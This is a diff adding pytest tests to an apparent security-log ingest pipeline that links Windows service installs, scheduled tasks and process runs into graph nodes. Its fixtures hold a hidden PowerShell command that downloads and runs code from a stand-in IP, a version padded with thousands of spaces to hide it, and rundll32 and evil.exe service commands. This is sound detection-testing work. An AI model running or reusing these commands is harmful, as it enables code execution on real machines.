@@ -6,8 +6,15 @@ Records go through the real pipeline, journal and embedded store
 
 from __future__ import annotations
 
+import re
+
+import orjson
 import pytest
 
+from graphsiem.store.embedded import EmbeddedStore
+from ingest.journal import Journal
+from ingest.pipeline import ingest_paths
+from ingest.projection_endpoint import INSTALLED_NAMES
 from tests.ingest.parsers.test_mde_persistence import row
 from tests.ingest.parsers.test_windows_persistence import (
     CMD,
@@ -47,7 +54,7 @@ def test_a_service_install_and_its_run_are_one_process_installed_and_ran_on_the_
     assert (HOST, service) in got.edges("RAN")
     assert (service, SYSTEM) in got.edges("RUN_AS")
     entity = got.entities("process")[service[1]]
-    assert entity.props["service"] == "wvbnmkqa"
+    assert entity.props["service"] == "wvbnmkqa" and entity.props["services"] == ["wvbnmkqa"]
     assert entity.props["decoded_command"] == STAGER
     assert [(s.host, s.count) for s in got.store.hosts_of(*service)] == [("ws-0042", 2)]
 
@@ -87,3 +94,99 @@ def test_mde_and_windows_service_installs_of_one_command_are_one_node(ingest) ->
     assert got.edges("INSTALLED") == {(HOST, service), (("host", "ws-0043"), service)}
     assert sorted(s.host for s in got.store.hosts_of(*service)) == ["ws-0042", "ws-0043"]
     assert ENCODED in got.entities("process")[service[1]].value
+
+
+# -- review findings: padding, bare names, quoting, names of a fleet-wide command ------------------
+
+PAYLOAD = "& powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)"
+PADDED = "C:\\Windows\\system32\\cmd.exe /c echo ok" + " " * 8200 + PAYLOAD
+SVCHOST = "C:\\Windows\\System32\\svchost.exe"
+NETSVCS = "%SystemRoot%\\System32\\svchost.exe -k netsvcs -p"
+NETSVCS_LINE = "C:\\Windows\\System32\\svchost.exe -k netsvcs -p"
+
+
+def _run(image: str, command_line: str, record_id: int = 9) -> dict:
+    return _sysmon(1, record_id, ProcessGuid=f"{{5770385f-0000-0000-0000-0000000{record_id:05d}}}", ProcessId="5120",
+                   Image=image, CommandLine=command_line, User="NT AUTHORITY\\SYSTEM",
+                   ParentImage="C:\\Windows\\System32\\services.exe",
+                   ParentCommandLine="C:\\Windows\\system32\\services.exe")
+
+
+def _service(name: str, image_path: str, host: str = "WS-0042", record_id: int = 1) -> dict:
+    record = _winlogbeat(7045, {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
+                                "StartType": "auto start", "AccountName": "LocalSystem"},
+                         channel="System", record_id=record_id)
+    record["winlog"]["computer_name"] = f"{host}.corp.example.com"
+    return record
+
+
+def test_a_padded_service_command_is_its_run_and_keeps_its_payload(ingest) -> None:
+    harmless = "C:\\Windows\\system32\\cmd.exe /c echo ok"
+    got = ingest(_service("EvilSvc", PADDED), _run(CMD, PADDED), _run(CMD, harmless, record_id=10))
+    service = _process(CMD, PADDED)
+    assert got.edges("INSTALLED") == {(HOST, service)}
+    assert (HOST, service) in got.edges("RAN")
+    processes = got.entities("process")
+    assert "iwr http://198.51.100.7/a" in processes[service[1]].props["command_line"]
+    # the harmless prefix ran alone is another node, not named as the service
+    assert "service" not in processes[_process(CMD, harmless)[1]].props
+
+
+@pytest.mark.parametrize(("image_path", "image"), [
+    ("cmd /c start /b C:\\Users\\Public\\evil.exe -s", "C:\\Windows\\System32\\cmd.exe"),
+    ("powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)", POWERSHELL),
+    ("rundll32 C:\\Users\\Public\\x.dll,Start", "C:\\Windows\\System32\\rundll32.exe"),
+], ids=["cmd", "powershell", "rundll32"])
+def test_an_unquoted_bare_service_command_is_the_node_of_its_run(ingest, image_path: str, image: str) -> None:
+    got = ingest(_service("EvilSvc", image_path), _run(image, image_path))
+    [(host, installed)] = got.edges("INSTALLED")
+    assert installed == _process(image, image_path) and (host, installed) in got.edges("RAN")
+
+
+def test_a_task_command_with_a_space_and_no_arguments_is_the_node_of_its_run(ingest) -> None:
+    updater = "C:\\Program Files\\Contoso\\updater.exe"
+    actions = f"<Actions><Exec><Command>{updater}</Command></Exec></Actions>"
+    content = re.sub(r"<Actions.*</Actions>", lambda _: actions, TASK_4698["TaskContent"], flags=re.DOTALL)
+    task = _winlogbeat(4698, TASK_4698 | {"TaskName": "\\Contoso\\Update", "TaskContent": content},
+                       channel="Security")
+    got = ingest(task, _run(updater, f'"{updater}"'))
+    node = _process(updater, f'"{updater}"')
+    assert (HOST, node) in got.edges("INSTALLED") and (HOST, node) in got.edges("RAN")
+
+
+def _ingest_calls(tmp_path, calls: list[list[dict]], batch_size: int = 1000) -> EmbeddedStore:
+    """Each list of records one ingest call, into one journal and one embedded store."""
+    store = EmbeddedStore(tmp_path / "graph")
+    with Journal(tmp_path / "journal.sqlite") as journal:
+        for number, records in enumerate(calls):
+            path = tmp_path / f"call-{number}.json"
+            path.write_bytes(b"\n".join(orjson.dumps(record) for record in records) + b"\n")
+            ingest_paths([path], store=store, journal=journal, progress=False, batch_size=batch_size)
+    return store
+
+
+FLEET = [_service("EvilSvcDll", NETSVCS, "WS-1", 1)] + [_service("BITS", NETSVCS, f"WS-{n}", n) for n in (2, 3, 4)]
+
+
+@pytest.mark.parametrize(("calls", "batch_size"), [
+    ([FLEET], 1000), ([FLEET], 1), ([FLEET[:1], FLEET[1:]], 1000), ([FLEET[1:], FLEET[:1]], 1000),
+], ids=["one batch", "a batch each", "two calls", "two calls, the odd one last"])
+def test_every_name_a_shared_command_was_installed_as_stays_on_its_node(tmp_path, calls, batch_size) -> None:
+    store = _ingest_calls(tmp_path, calls, batch_size)
+    try:
+        props = store.get_entity(*_process(SVCHOST, NETSVCS_LINE)).props
+        assert props["services"] == ["BITS", "EvilSvcDll"] and props["service"] == "BITS"
+        assert "services_dropped" not in props and "tasks" not in props
+    finally:
+        store.close()
+
+
+def test_names_past_the_bound_are_counted_not_kept(tmp_path) -> None:
+    records = [_service(f"svc{n:02d}", NETSVCS, f"WS-{n}", n) for n in range(INSTALLED_NAMES + 3)]
+    store = _ingest_calls(tmp_path, [records[:20], records[20:]])
+    try:
+        props = store.get_entity(*_process(SVCHOST, NETSVCS_LINE)).props
+        assert props["services"] == [f"svc{n:02d}" for n in range(INSTALLED_NAMES)]
+        assert props["services_dropped"] == 3
+    finally:
+        store.close()
